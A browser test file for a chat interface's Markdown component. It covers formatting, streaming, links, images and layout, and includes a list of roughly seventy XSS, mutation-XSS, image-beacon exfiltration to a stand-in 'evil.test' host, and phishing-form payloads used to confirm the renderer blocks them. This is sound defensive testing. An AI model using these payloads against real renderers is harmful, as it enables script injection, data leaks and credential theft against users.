import { emulateMedia, setViewport } from '@web/test-runner-commands';
import { assert } from 'chai';
import { marked } from 'marked';
import '../../src/elements/markdown.js';
import type { ParleyMarkdown } from '../../src/elements/markdown.js';
import {
  afterThis,
  allByRole,
  assertSame,
  byRole,
  drawn,
  fixture,
  nextFrame,
  part,
  readable,
  until,
} from '../support/fixture.js';
import { steered } from '../support/steer.js';

const picture = '/examples/demo/icon.svg';
// The same server under another name: for a browser that is somebody else's.
const elsewhere = location.origin.replace('localhost', '127.0.0.1');

/** The formatted text, whose nodes a reader sees. */
const content = (element: ParleyMarkdown) => part(element, 'content');

async function shows(text: string, streaming = false): Promise<HTMLElement> {
  return content(await fixture('parley-markdown', { text, streaming }));
}

async function grow(element: ParleyMarkdown, text: string): Promise<void> {
  element.text = text;
  await drawn(element);
}

describe('Markdown: what people write is formatted', () => {
  const written: readonly [what: string, source: string, selector: string, text: string][] = [
    ['a heading', '## Plan', 'h2', 'Plan'],
    ['an underlined heading', 'Plan\n====', 'h1', 'Plan'],
    ['a paragraph', 'One.\n\nTwo.', 'p:nth-of-type(2)', 'Two.'],
    ['emphasis', 'an *important* word', 'em', 'important'],
    ['strong emphasis', 'a **strong** word', 'strong', 'strong'],
    ['struck out text', 'a ~~wrong~~ word', 'del', 'wrong'],
    ['code in a line', 'call `a < b`', 'p > code', 'a < b'],
    ['a code block', '```js\nlet a = 1;\n```', 'pre > code.language-js', 'let a = 1;\n'],
    ['an indented code block', '    let a = 1;', 'pre > code', 'let a = 1;\n'],
    ['a list', '- one\n- two', 'ul > li:nth-child(2)', 'two'],
    ['a list in a list', '- one\n  - inner', 'ul > li > ul > li', 'inner'],
    ['a numbered list that starts later', '3. three', 'ol[start="3"] > li', 'three'],
    ['a quotation', '> said', 'blockquote > p', 'said'],
    ['a rule', 'a\n\n---\n\nb', 'hr', ''],
    ['a table', '| a | b |\n|---|:-:|\n| 1 | 2 |', 'tbody td[align="center"]', '2'],
    ['a link', '[Lit](https://lit.dev/docs)', 'a[href="https://lit.dev/docs"]', 'Lit'],
    [
      'a bare address',
      'see https://lit.dev/docs now',
      'a[href="https://lit.dev/docs"]',
      'https://lit.dev/docs',
    ],
    ['an address of mail', '<me@lit.dev>', 'a[href="mailto:me@lit.dev"]', 'me@lit.dev'],
    ['a link defined below', '[Lit][1]\n\n[1]: https://lit.dev/', 'a[href="https://lit.dev/"]', 'Lit'],
    ['HTML that does no harm', 'H<sub>2</sub>O', 'p > sub', '2'],
    ['a key', 'Press <kbd>Esc</kbd>', 'kbd', 'Esc'],
    [
      'details with Markdown inside',
      '<details><summary>More</summary>\n\n**inner**\n\n</details>',
      'details strong',
      'inner',
    ],
    ['what was escaped', '\\*not emphasis\\*', 'p', '*not emphasis*'],
    ['entities', '&lt;b&gt; &amp; &copy;', 'p', '<b> & ©'],
  ];
  for (const [what, source, selector, text] of written) {
    it(what, async () => {
      assert.equal((await shows(source)).querySelector(selector)?.textContent, text);
    });
  }

  it('a single line end is no line break', async () => {
    assert.isNull((await shows('one\ntwo')).querySelector('br'));
  });

  it('two spaces at the end of a line are one', async () => {
    assert.exists((await shows('one  \ntwo')).querySelector('br'));
  });

  it('a task list shows what is done, and nobody can change it', async () => {
    const boxes = (await shows('- [x] write\n- [ ] test')).querySelectorAll('input');
    assert.deepEqual(
      [...boxes].map(({ type, checked, disabled }) => ({ type, checked, disabled })),
      [
        { type: 'checkbox', checked: true, disabled: true },
        { type: 'checkbox', checked: false, disabled: true },
      ],
    );
  });

  it('a growing text has a caret, and a finished one has none', async () => {
    const caret = (shown: HTMLElement) =>
      getComputedStyle(shown.querySelector('p') ?? assert.fail(), '::after').animationName;
    assert.equal(caret(await shows('One', true)), 'parley-caret');
    assert.notEqual(caret(await shows('One')), 'parley-caret');
  });

  it('a key looks like one', async () => {
    const key = (await shows('Press <kbd>Esc</kbd>')).querySelector('kbd') ?? assert.fail();
    assert.equal(getComputedStyle(key).borderBlockStartStyle, 'solid');
  });

  it('no text shows nothing', async () => {
    assert.equal(readable(await fixture('parley-markdown', { text: '' })), '');
  });

  it('a text that is taken away is gone', async () => {
    const element = await fixture('parley-markdown', { text: '# Old' });
    await grow(element, '');
    assert.equal(readable(element), '');
  });

  it('the attribute sets the text', async () => {
    const element = await fixture('parley-markdown');
    element.setAttribute('text', '**set**');
    await drawn(element);
    assert.equal(content(element).querySelector('strong')?.textContent, 'set');
  });
});

// `src=/package.json`: what is there is no picture, so that `onerror` fires with no request to an unknown place.
const hostile: readonly string[] = [
  '<img src=/package.json onerror=__xss(1)>',
  '<svg onload=__xss(2)>',
  '<scr<script>ipt>__xss(4)</scr</script>ipt>',
  '<iframe srcdoc="<script>parent.__xss(6)</script>"></iframe>',
  '<details open ontoggle=__xss(7)>x</details>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/package.json onerror=__xss(9)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(10)>',
  '<noscript><p title="</noscript><img src=/package.json onerror=__xss(12)>"></noscript>',
  '<template shadowrootmode=open><img src=/package.json onerror=__xss(14)></template>',
  '```js"onmouseover=__xss(16) x="\n1\n```',
  '```"><img src=/package.json onerror=__xss(17)>\n1\n```',
  '![x](/package.json "t\\" onerror=__xss(19) \\"")',
  '| a |\n|---|\n| <img src=/package.json onerror=__xss(21)> |',
  '- [ ] <img src=/package.json onerror=__xss(22)>',
  '<x-host-widget onclick=__xss(23) data-x="1">y</x-host-widget>',
  '<svg><animate attributeName=href values=javascript:__xss(25) /><a id=x><text y=20>x</text></a></svg>',
  '<object data="data:text/html,<script>parent.__xss(27)</script>"></object>',
  '<embed src="javascript:__xss(28)">',
  '<meta http-equiv=refresh content="0;url=javascript:__xss(30)">',
  '<link rel=stylesheet href="https://evil.test/a.css">',
  '<style>@import "https://evil.test/i.css"; *{background:url(https://evil.test/s)}</style>x',
  '<lobeArtifact type="image/svg+xml"><svg><image href=/package.json onerror=__xss(33) /></svg></lobeArtifact>',
  '<think><img src=/package.json onerror=__xss(36)></think>',
  '%%%LATEX_BLOCK_0%%% $$x$$ [a](%%%LATEX_BLOCK_0%%%) $$" onmouseover=__xss(37) x="$$',
  '&lt;img src=/package.json onerror=__xss(40)&gt;',
  '\\<img src=/package.json onerror=__xss(41)\\>',
  '```html\n<img src=/package.json onerror=__xss(43)>\n</code></pre><img src=/package.json onerror=__xss(43)>\n```',
  '[a]: javascript:__xss(46)\n\n[a]',
  '<select><template><style></select><img src=/package.json onerror=__xss(47)></style></template>',
  '<svg><desc><noembed></noembed></desc></svg><noembed><img title="</noembed><img src onerror=__xss(48)>"></noembed>',
  '<textarea><img title="</textarea><img src onerror=__xss(50)>">',
  '[x](javascript:__xss(61))',
  '[x](java&Tab;script:__xss(63))',
  '[x](&#106;avascript:__xss(65))',
  '[x](\u0001javascript:__xss(66))',
  '<javascript:__xss(68)>',
  '[x](data:text/html,<script>__xss(70)</script>)',
  '<a href="javascript:__xss(73)" target=_blank>x</a>',
  '<a href="javascript&colon;__xss(75)">x</a>',
  '[x](blob:https://host.test/1)',
  '[x](intent://x#Intent;scheme=javascript;end)',
  '![x](javascript:__xss(83))',
  '<form action=javascript:__xss(85)><button>x</button></form>',
  '<button formaction=javascript:__xss(86) form=f>x</button>',
  '<a ping=https://evil.test/p href=https://x.test>x</a>',
  '![a](https://evil.test/i?d=SECRET)',
  '![a](//evil.test/p?d=SECRET)',
  '![a](/\\evil.test/p?d=SECRET)',
  '<img src="https://evil.test/h?d=SECRET">',
  '<picture><source srcset="https://evil.test/ps?d=SECRET"><img src=/package.json></picture>',
  '<video poster="https://evil.test/vp?d=SECRET"></video>',
  '<audio src="https://evil.test/a?d=SECRET" preload=auto autoplay></audio>',
  '<input type=image src="https://evil.test/in?d=SECRET">',
  '<table background="https://evil.test/tb?d=SECRET"><tr><td>x</table>',
  '<svg><image href="https://evil.test/si?d=SECRET" width=9 height=9></svg>',
  '<p style="background:image-set(\'https://evil.test/is?d=SECRET\' 1x)">x</p>',
  '<p style="--a:url(https://evil.test/va);background:var(--a)">x</p>',
  '<iframe src="https://evil.test/if?d=SECRET"></iframe>',
  '<object data="https://evil.test/ob?d=SECRET"></object>',
  '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/sp"]}]}</script>',
  '<details><summary>x</summary><img src="https://evil.test/hidden?d=SECRET" width=0 height=0></details>',
  '![a](https://host.test%2f@evil.test/p)',
  '![a](https://\u0435vil.test/homograph)',
  "![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.test/dsvg'/></svg>)",
  '<form action="https://evil.test/login"><input name=user><input type=password name=pw><button>Sign in again</button></form>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired</div>',
  '<dialog open>Fake</dialog>',
  '<button commandfor=any command=show-modal>x</button>',
  '<label for="file-input">click to verify</label>',
  '<div role=alert aria-live=assertive>System: your key leaked</div>',
  '<div slot="header">x</div><div part="send-button">y</div>',
  '<h1 id="input">x</h1><img name=getElementById><form name=body><input name=attributes></form>',
  '<input autofocus onfocus=1><textarea autofocus>',
  '<table width=99999999><tr><td colspan=99999999>x</table>',
];

const contentTags = new Set(
  `p br hr h1 h2 h3 h4 h5 h6 strong em b i u s del ins mark small sub sup kbd samp var code pre blockquote ul ol li dl dt
  dd table thead tbody tfoot tr th td caption a img span div details summary abbr q cite time input`.split(
    /\s+/,
  ),
);
const contentAttributes = new Set(
  `href src alt title width height align start reversed colspan rowspan open class lang dir type checked disabled
  target rel referrerpolicy loading decoding`.split(/\s+/),
);
const ownAttributes = new Set(
  `class dir role aria-label tabindex type data-parley-ui data-parley-wrap title data-tool aria-pressed aria-haspopup
  aria-hidden viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d`.split(/\s+/),
);

/** What must not be there: an element or attribute off the list, an address that leads where none should. */
function forbidden(shown: Element): string[] {
  return [...shown.querySelectorAll('*')].flatMap((element) => {
    const ours =
      element.closest('[data-parley-ui], [data-parley-wrap]') === element ||
      element.closest('[data-parley-ui]');
    const tag = element.localName;
    const ownTag = ours && ['button', 'label', 'svg', 'path'].includes(tag);
    const bad = contentTags.has(tag) || ownTag ? [] : [`<${tag}>`];
    for (const { name } of element.attributes) {
      const known = ours
        ? ownAttributes.has(name)
        : contentAttributes.has(name) || (tag === 'pre' && name === 'tabindex');
      if (!known) bad.push(`<${tag} ${name}>`);
    }
    if (tag === 'a' && element.hasAttribute('href')) {
      const { protocol, username } = element as HTMLAnchorElement;
      if (!['https:', 'http:', 'mailto:', 'tel:'].includes(protocol) || username)
        bad.push(`link to ${protocol}`);
    }
    const source = element.getAttribute('src');
    if (source !== null && new URL(source, location.href).origin !== location.origin)
      bad.push(`src of ${source}`);
    return bad;
  });
}

describe('Markdown: nothing in the text harms the reader', () => {
  it('hostile text runs nothing, loads nothing from elsewhere and leaves nothing behind, in any piece of it', async function () {
    this.timeout(60_000);
    const ran: unknown[] = [];
    const controlRan = new Set<unknown>();
    Object.assign(window, {
      __xss: (n: unknown) => ran.push(n),
      __control: (n: unknown) => controlRan.add(n),
    });
    afterThis(() => Object.assign(window, { __xss: undefined, __control: undefined }));
    // A real server hears of a request in any engine, however it was made.
    const evil = steered();
    const texts = hostile.map((text) =>
      text.replaceAll('https://evil.test', evil.url).replaceAll('//evil.test', evil.url.replace('http:', '')),
    );

    const found: string[] = [];
    for (const text of texts) {
      const element = await fixture('parley-markdown', { streaming: true });
      for (let end = 1; end <= text.length; end += 1) {
        await grow(element, text.slice(0, end));
        found.push(...forbidden(content(element)).map((what) => `${what} of ${text.slice(0, end)}`));
      }
      const whole = await fixture('parley-markdown', { text });
      found.push(...forbidden(content(whole)).map((what) => `${what} of ${text}, whole`));
    }

    // The control: the same texts without us, and a request that does go out. They end the wait for ours.
    const harmful = hostile.filter(
      (text) => /on(?:error|load|toggle)=__xss/.test(text) && !text.includes('evil.test'),
    );
    for (const text of harmful) {
      const box = document.createElement('div');
      document.body.append(box);
      afterThis(() => box.remove());
      box.innerHTML = await marked.parse(text.replaceAll('__xss', '__control'));
    }
    new Image().src = `${evil.url}/control`;
    await until(() => controlRan.size >= 8);
    while (!(await evil.arrived()).includes('/control'));

    assert.deepEqual(found, []);
    assert.deepEqual(ran, []);
    assert.deepEqual(await evil.arrived(), ['/control']);
  });

  it('the readable part of hostile text stays readable', async () => {
    const element = await fixture('parley-markdown', {
      text: 'Before <b onclick="__xss()">bold</b> <script>no()</script> after',
    });
    assert.equal(readable(element), 'Before bold after');
  });

  it('text cannot dress up as our own buttons and notes', async () => {
    const shown = await shows(
      '<span data-parley-ui class="blocked" role="alert">x<button type="button" class="text-button">Show</button></span>',
    );
    assert.equal(shown.querySelectorAll('[data-parley-ui], button, [role], .blocked').length, 0);
  });

  it('text cannot borrow our style classes', async () => {
    assert.isNull(
      (await shows('<div class="code-block language-js streaming">x</div>')).querySelector('.code-block'),
    );
  });

  for (const character of ['>', '[', '*', '- ', '1. ', '`a', '~a', '<b>', '(']) {
    it(`10,000 times “${character}” is shown, whatever it means`, async function () {
      this.timeout(30_000);
      const element = await fixture('parley-markdown', { text: `${character.repeat(10_000)} the end` });
      assert.include(readable(element), 'the end');
    });
  }

  for (const [name, value] of [
    ['null', null],
    ['undefined', undefined],
    ['a number', 42],
    ['an object', {}],
  ] as const) {
    it(`a text that is ${name} throws nothing`, async () => {
      const element = await fixture('parley-markdown');
      Object.assign(element, { text: value });
      await drawn(element);
      assert.notInclude(readable(element), 'undefined');
    });
  }
});

describe('Markdown: links say where they lead', () => {
  it('a link opens beside the page and tells its target nothing', async () => {
    const link = byRole(await shows('[Lit](https://lit.dev/)'), 'link');
    assert.include(link, { target: '_blank', rel: 'noopener noreferrer', referrerPolicy: 'no-referrer' });
  });

  it('a text that names another host is followed by the real one', async () => {
    assert.equal(
      (await shows('[https://bank.test](https://evil.test/x)')).textContent?.trim(),
      'https://bank.test(evil.test)',
    );
  });

  it('a text that names the same host is left alone', async () => {
    assert.equal(
      (await shows('[www.bank.test/login](https://bank.test/login)')).textContent?.trim(),
      'www.bank.test/login',
    );
  });

  it('a name and password before the host make it no link', async () => {
    const shown = await shows('[bank.test](https://bank.test@evil.test)');
    assert.equal(allByRole(shown, 'link').length, 0);
    assert.include(shown.textContent, 'bank.test');
  });

  it('a link to a place in the text leads nowhere', async () => {
    assert.equal(allByRole(await shows('[up](#top)'), 'link').length, 0);
  });

  it('letters of another alphabet show in their plain form', async () => {
    const link = byRole(await shows('[x](https://b\u0430nk.test)'), 'link');
    assert.equal(link.getAttribute('href'), 'https://xn--bnk-6cd.test/');
  });
});

describe('Markdown: pictures', () => {
  it('one of the page’s own origin loads', async () => {
    const image = byRole(await shows(`![Our mark](${picture})`), 'img', 'Our mark');
    await until(() => image.naturalWidth > 0);
    assert.equal(image.src, location.origin + picture);
  });

  it('one from elsewhere is a placeholder that names its host', async () => {
    const shown = await shows(`![A cat](${elsewhere}${picture})`);
    assert.equal(allByRole(shown, 'img').length, 0);
    assert.include(shown.textContent, new URL(elsewhere).host);
  });

  it('one press loads it, and nothing about the page is told', async () => {
    const shown = await shows(`![A cat](${elsewhere}${picture})`);
    byRole(shown, 'button', 'Show: A cat').click();
    const image = byRole(shown, 'img', 'A cat');
    await until(() => image.naturalWidth > 0);
    assert.include(image, { src: elsewhere + picture, referrerPolicy: 'no-referrer' });
    assert.equal(allByRole(shown, 'button').length, 0);
  });

  it('one press loads that picture alone', async () => {
    const shown = await shows(`![A cat](${elsewhere}${picture})\n\n![A dog](${elsewhere}${picture}?dog)`);
    byRole(shown, 'button', 'Show: A cat').click();
    assert.equal(allByRole(shown, 'img').length, 1);
  });

  it('a picture that was let in stays while more text comes', async () => {
    const element = await fixture('parley-markdown', {
      text: `![A cat](${elsewhere}${picture})\n\nMore`,
      streaming: true,
    });
    byRole(element, 'button', 'Show: A cat').click();
    await grow(element, `${element.text} and more.\n\nAnd a last paragraph.`);
    assert.equal(allByRole(element, 'img', 'A cat').length, 1);
  });

  it('one inside the text, small and raster, loads', async () => {
    const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';
    assert.equal(byRole(await shows(`![dot](${pixel})`), 'img', 'dot').src, pixel);
  });

  it('a drawing inside the text does not', async () => {
    const shown = await shows('![dot](data:image/svg+xml;base64,PHN2Zy8+)');
    assert.equal(allByRole(shown, 'img').length + allByRole(shown, 'button').length, 0);
    assert.include(shown.textContent, 'dot');
  });
});

const long = `# Title

A paragraph with **strong**, \`code\`, a [link](https://lit.dev/ "t") and [another][later].

| a | b |
|---|---|
| 1 | 2 |

- one
- two

  loose
    - deep

\`\`\`ts
const a: number = 1;

\`\`\`

> quoted
continued

<details><summary>More</summary>

inner *text*

</details>

Setext
------

1. x
2. y

![A cat](${elsewhere}${picture})

[later]: https://later.test/ "T"
`;

describe('Markdown: while the text is coming', () => {
  for (const step of [1, 2, 3, 7, 64]) {
    it(`pieces of ${step} give the same as the whole at once`, async () => {
      const element = await fixture('parley-markdown', { streaming: true });
      for (let end = step; end < long.length + step; end += step) await grow(element, long.slice(0, end));
      assert.equal(content(element).innerHTML, (await shows(long)).innerHTML);
    });
  }

  it('a text that is replaced by another gives the same as the other alone', async () => {
    const element = await fixture('parley-markdown', { text: long });
    await grow(element, long.slice(20, 200));
    assert.equal(content(element).innerHTML, (await shows(long.slice(20, 200))).innerHTML);
  });

  it('one caret stands in a table, behind what has come last', async () => {
    const carets = (shown: HTMLElement) =>
      [...shown.querySelectorAll('th, td')]
        .filter((cell) => getComputedStyle(cell, '::after').content !== 'none')
        .map(({ textContent }) => textContent);
    const table = '| a | b |\n|---|---|\n';
    assert.deepEqual(carets(await shows(table, true)), ['b']);
    assert.deepEqual(carets(await shows(`${table}| c | d |\n`, true)), ['d']);
  });

  it('finished paragraphs keep their nodes', async () => {
    const element = await fixture('parley-markdown', { text: 'First.\n\nSecond', streaming: true });
    const first = content(element).querySelector('p');
    await grow(element, 'First.\n\nSecond, and more.\n\n- third');
    assertSame(content(element).querySelector('p'), first);
  });

  it('what a reader has unfolded stays open', async () => {
    const folded = '<details><summary>Steps</summary>\n\none\n\n</details>\n\n';
    const element = await fixture('parley-markdown', { text: `${folded}And`, streaming: true });
    content(element).querySelector('summary')?.click();
    await grow(element, `${folded}And so on.\n\nMore.`);
    assert.isTrue(content(element).querySelector('details')?.open);
  });

  it('what a reader has selected stays selected', async () => {
    const element = await fixture('parley-markdown', { text: 'Copy this.\n\nMore', streaming: true });
    const chosen = content(element).querySelector('p') as HTMLElement;
    getSelection()?.selectAllChildren(chosen);
    await grow(element, 'Copy this.\n\nMore and more.\n\nAnd more.');
    assert.equal(getSelection()?.toString(), 'Copy this.');
  });

  it('a definition that comes later makes the link above it', async () => {
    const element = await fixture('parley-markdown', { text: 'See [the site].\n\nMore.', streaming: true });
    await grow(element, 'See [the site].\n\nMore.\n\n[the site]: https://lit.dev/\n');
    assert.equal(byRole(element, 'link').href, 'https://lit.dev/');
  });

  it('a caret stands at the end, and is no part of the text', async () => {
    const element = await fixture('parley-markdown', { text: 'Coming', streaming: true });
    const paragraph = content(element).querySelector('p') as HTMLElement;
    assert.notEqual(getComputedStyle(paragraph, '::after').content, 'none');
    assert.equal(content(element).innerHTML, (await shows('Coming')).innerHTML);
  });

  it('the caret goes when the text is complete', async () => {
    const element = await fixture('parley-markdown', { text: 'Coming', streaming: true });
    element.streaming = false;
    await drawn(element);
    const paragraph = content(element).querySelector('p') as HTMLElement;
    assert.equal(getComputedStyle(paragraph, '::after').content, 'none');
  });

  it('the attribute streaming="false" means no', async () => {
    const element = await fixture('parley-markdown');
    element.setAttribute('streaming', 'false');
    assert.isFalse(element.streaming);
  });

  it('the caret keeps still for those who asked for less motion', async () => {
    await emulateMedia({ reducedMotion: 'reduce' });
    const element = await fixture('parley-markdown', { text: 'Coming', streaming: true });
    const paragraph = content(element).querySelector('p') as HTMLElement;
    const { animationName, animationDuration, animationIterationCount } = getComputedStyle(
      paragraph,
      '::after',
    );
    await emulateMedia({ reducedMotion: 'no-preference' });
    assert.isTrue(
      animationName === 'none' ||
        (Number.parseFloat(animationDuration) < 0.01 && animationIterationCount === '1'),
      `${animationName} ${animationDuration} ${animationIterationCount}`,
    );
  });
});

describe('Markdown: fits its place', () => {
  it('each paragraph runs in the direction of its own words', async () => {
    const paragraphs = [...(await shows('Hello\n\nשלום עולם')).querySelectorAll('p')];
    assert.deepEqual(
      paragraphs.map((paragraph) => getComputedStyle(paragraph).direction),
      ['ltr', 'rtl'],
    );
  });

  it('code runs from left to right in any language', async () => {
    const element = await fixture('parley-markdown', { text: '```\nשלום\n```', dir: 'rtl' });
    assert.equal(getComputedStyle(content(element).querySelector('pre') as Element).direction, 'ltr');
  });

  const wide: readonly [string, string][] = [
    [
      'a wide table',
      `|${' column |'.repeat(40)}\n|${'---|'.repeat(40)}\n|${' unbreakable_value |'.repeat(40)}`,
    ],
    ['a long word', 'x'.repeat(2000)],
    ['a long line of code', `\`\`\`\n${'x'.repeat(2000)}\n\`\`\``],
    ['long code in a line', `\`${'x'.repeat(2000)}\``],
    ['a long address', `https://lit.dev/${'x'.repeat(2000)}`],
  ];
  for (const [what, text] of wide) {
    it(`${what} does not widen a phone’s page`, async () => {
      const { innerWidth, innerHeight } = window;
      await setViewport({ width: 360, height: 640 });
      await shows(text);
      const { scrollWidth, clientWidth } = document.documentElement;
      await setViewport({ width: innerWidth, height: innerHeight });
      assert.isAtMost(scrollWidth, clientWidth);
    });
  }

  it('a wide table can be scrolled by keyboard', async () => {
    const box = (await shows(wide[0]?.[1] ?? '')).querySelector('table')?.parentElement;
    assert.equal(box?.tabIndex, 0);
    assert.equal(box?.getAttribute('aria-label'), 'Table');
  });
});

describe('Markdown: pictures, while the text is coming', () => {
  it('an address that is still coming is not asked for', async () => {
    const asked = () =>
      performance
        .getEntriesByType('resource')
        .map(({ name }) => name)
        .filter((name) => name.startsWith(`${location.origin}${picture}?`));
    const text = `![Mark][m]\n\n[m]: ${picture}?whole`;
    const element = await fixture('parley-markdown', { streaming: true });
    for (let end = text.indexOf('?') + 1; end <= text.length; end += 1) {
      await grow(element, text.slice(0, end));
      await nextFrame();
    }
    element.streaming = false;
    await grow(element, `${text}\n`);
    await until(() => asked().some((name) => name.endsWith('?whole')));
    assert.deepEqual(asked(), [`${location.origin}${picture}?whole`]);
  });

  it('one that was let in stays while its own paragraph grows', async () => {
    const element = await fixture('parley-markdown', {
      text: `![A cat](${elsewhere}${picture}) is`,
      streaming: true,
    });
    byRole(element, 'button', 'Show: A cat').click();
    await grow(element, `${element.text} here`);
    assert.equal(allByRole(element, 'img', 'A cat').length, 1);
  });
});

describe('Markdown: a host in letters that only look like others', () => {
  it('is shown in its plain form', async () => {
    const element = await fixture('parley-markdown', {
      text: '[https://b\u0430nk.test](https://b\u0430nk.test)',
    });
    assert.include(readable(element), 'xn--bnk-6cd.test');
  });
});

describe('Markdown: lists and quotes of another direction', () => {
  it('keep their mark on the side of their text', async () => {
    const element = await fixture('parley-markdown', { text: '> مرحبا\n\n- مرحبا\n\n  سلام' });
    const quote = content(element).querySelector('blockquote') as HTMLElement;
    assert.equal(getComputedStyle(quote).direction, 'rtl');
    const list = content(element).querySelector('ul') as HTMLElement;
    assert.equal(getComputedStyle(list).direction, 'rtl');
  });
});

describe('Markdown: a host that hides behind what does not show', () => {
  it('is shown', async () => {
    const element = await fixture('parley-markdown', { text: '[\u200Bgood.test](https://evil.test/)' });
    assert.include(readable(element), '(evil.test)');
  });
});
